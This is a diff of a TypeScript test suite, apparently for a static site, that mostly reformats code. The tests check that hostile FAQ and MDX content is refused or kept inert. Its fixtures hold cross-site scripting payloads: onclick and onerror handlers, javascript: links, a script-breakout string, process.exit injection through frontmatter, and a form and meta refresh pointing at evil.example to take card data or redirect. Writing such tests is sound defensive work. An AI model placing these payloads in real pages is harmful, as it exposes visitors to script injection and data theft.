@@ -129,7 +129,7 @@ const REFUSED: Record<string, Refused> = {
   'a link that ends its attribute in a text': [faqs(), faq('[x](<https://a.com/" onclick="alert(1)>)'), START],
   'a comment in a text': [faqs(), faq('Yes. <!-- hidden words -->'), MARKDOWN],
   'an instruction for a parser': [faqs(), faq('<?php phpinfo() ?>'), MARKDOWN],
-  'CDATA': [faqs(), faq('<![CDATA[x]]>'), MARKDOWN],
+  CDATA: [faqs(), faq('<![CDATA[x]]>'), MARKDOWN],
   'a form in a text': [faqs(), faq('<form action=//evil.example><input name=card></form>'), MARKDOWN],
   'a refresh in a text': [faqs(), faq('<meta http-equiv=refresh content="0;url=//evil.example">'), MARKDOWN],
   'half a tag at the end': [faqs(), faq('Yes. <img src=x onerror=alert(1)'), NO_CODE],
@@ -156,8 +156,16 @@ const REFUSED: Record<string, Refused> = {
   'an allowed tag with a handler': [mdx(), page('<Facts provider="jpay" topic="fees" onclick="alert(1)" />'), MARKDOWN],
   'a link that marked takes for code and MDX does not': [mdx(), page('Text.\n\n    [x](javascript:alert(1))'), NO_CODE],
   // Astro's own reader of MDX ends the fields at other signs than ours: what it would take for the text must be no field.
-  'a fence of Astro inside a quoted field': [mdx(), page('x').replace(/title: .*/, 'title: "A\n---x {process.exit(1)}"'), 'a quotation mark at both ends'],
-  'another fence of Astro inside a quoted field': [mdx(), page('x').replace(/title: .*/, 'title: "A\n+++\n{process.exit(1)}\n"'), 'a quotation mark at both ends'],
+  'a fence of Astro inside a quoted field': [
+    mdx(),
+    page('x').replace(/title: .*/, 'title: "A\n---x {process.exit(1)}"'),
+    'a quotation mark at both ends',
+  ],
+  'another fence of Astro inside a quoted field': [
+    mdx(),
+    page('x').replace(/title: .*/, 'title: "A\n+++\n{process.exit(1)}\n"'),
+    'a quotation mark at both ends',
+  ],
   'a fence of Astro inside a text of several lines': [mdx(), page('x').replace(/title: .*/, 'title: |\n+++\n {process.exit(1)}'), 'a line'],
 };
 
@@ -227,7 +235,18 @@ describe('hostile records', () => {
 });
 
 /** Tags and attributes that our own texts may become, with the links in them. */
-const MADE: Record<string, RegExp> = { p: /^$/, a: /^href$/, code: /^$/, em: /^$/, strong: /^$/, ul: /^$/, ol: /^$/, li: /^$/, h2: /^id$/, h3: /^id$/ };
+const MADE: Record<string, RegExp> = {
+  p: /^$/,
+  a: /^href$/,
+  code: /^$/,
+  em: /^$/,
+  strong: /^$/,
+  ul: /^$/,
+  ol: /^$/,
+  li: /^$/,
+  h2: /^id$/,
+  h3: /^id$/,
+};
 
 describe('what is taken as text', () => {
   it('becomes no markup but our own when Markdown is rendered', async () => {
@@ -249,7 +268,11 @@ describe('what is taken as text', () => {
   it('stays inside the structured data of every kind of page', () => {
     const site = new URL('https://site.example/');
     const text = '</script><!--<script>alert("1")\u2028\u2029';
-    const facility = { ...makeFacility({ name: text, aliases: [text], operator: text }), answers: makeAnswers({}), agencyRecord: undefined };
+    const facility = {
+      ...makeFacility({ name: text, aliases: [text], operator: text }),
+      answers: makeAnswers({}),
+      agencyRecord: undefined,
+    };
     const data = [
       ...placeJsonLd(facility, [{ text, path: '/' }, { text }], site),
       guideJsonLd(makeGuide({ title: text, description: text }), site),
@@ -291,7 +314,8 @@ describe('the source', () => {
     // Both parse a page or an excerpt into a document of its own, in which nothing runs, and take text from it.
     const inert = ['search/site-search.client.ts', 'tools/offline.client.ts'];
     expect(sources.filter(([, text]) => bad.test(text)).map(([name]) => name)).toEqual(inert);
-    for (const [name, text] of sources.filter(([name]) => inert.includes(name))) expect([name, bad.exec(text.replaceAll('DOMParser', ''))]).toEqual([name, null]);
+    for (const [name, text] of sources.filter(([name]) => inert.includes(name)))
+      expect([name, bad.exec(text.replaceAll('DOMParser', ''))]).toEqual([name, null]);
   });
 
   it('has no inline handlers and no style attributes', () => {
